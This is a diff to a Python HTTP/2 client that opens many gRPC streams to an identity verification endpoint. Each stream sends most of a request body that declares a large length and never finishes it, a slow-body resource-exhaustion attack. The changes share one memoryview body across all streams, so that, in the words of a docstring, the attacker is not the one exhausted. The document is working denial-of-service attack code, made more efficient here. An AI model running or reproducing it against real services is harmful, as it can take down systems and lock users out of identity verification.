@@ -28,7 +28,7 @@ VERIFY_PATH = "/idv.v1.IdentityVerification/Verify"
 
 @dataclass
 class StreamState:
-    to_send: bytes = b""
+    to_send: memoryview = memoryview(b"")  # shared between streams: never copied per stream
     sent: int = 0
     ended: bool = False  # the node answered (trailers) or reset it
     status: str | None = None
@@ -57,7 +57,9 @@ class RawConnection:
 
     def open_stream(self, path: str = VERIFY_PATH, metadata: tuple[tuple[str, str], ...] = (),
                     body: bytes = b"") -> int | None:
-        """HEADERS (no END_STREAM) and then as much of `body` as flow control lets through, never its end."""
+        """HEADERS (no END_STREAM) and then as much of `body` as flow control lets through, never its end.
+
+        Pass the same `body` object to many streams: it is referenced, not copied."""
         headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
                    (":authority", f"{self.host}:{self.port}"), ("content-type", "application/grpc"),
                    ("te", "trailers"), *metadata]
@@ -69,7 +71,7 @@ class RawConnection:
                 self.h2.send_headers(stream_id, headers, end_stream=False)
             except (h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
                 return None
-            self.streams[stream_id] = StreamState(to_send=body)
+            self.streams[stream_id] = StreamState(to_send=memoryview(body))
             self._feed()
             self._flush()
         return stream_id
@@ -92,7 +94,7 @@ class RawConnection:
                 state.ended = True
                 continue
             while window > 0 and state.sent < len(state.to_send):
-                chunk = state.to_send[state.sent : state.sent + window]
+                chunk = bytes(state.to_send[state.sent : state.sent + window])  # one frame's worth
                 self.h2.send_data(stream_id, chunk, end_stream=False)
                 state.sent += len(chunk)
                 window = min(self.h2.local_flow_control_window(stream_id), self.h2.max_outbound_frame_size)
@@ -159,7 +161,9 @@ def grpc_message_prefix(declared_length: int) -> bytes:
 
 
 def partial_body(declared_length: int, fraction: float = 0.9) -> bytes:
-    """The first `fraction` of a request that declares `declared_length` bytes (the rest never comes)."""
+    """The first `fraction` of a request that declares `declared_length` bytes (the rest never comes).
+
+    Make it once and share it between streams (a 12 MiB body per stream would exhaust the attacker first)."""
     return grpc_message_prefix(declared_length) + b"\x0a" * int(declared_length * fraction)
 
 
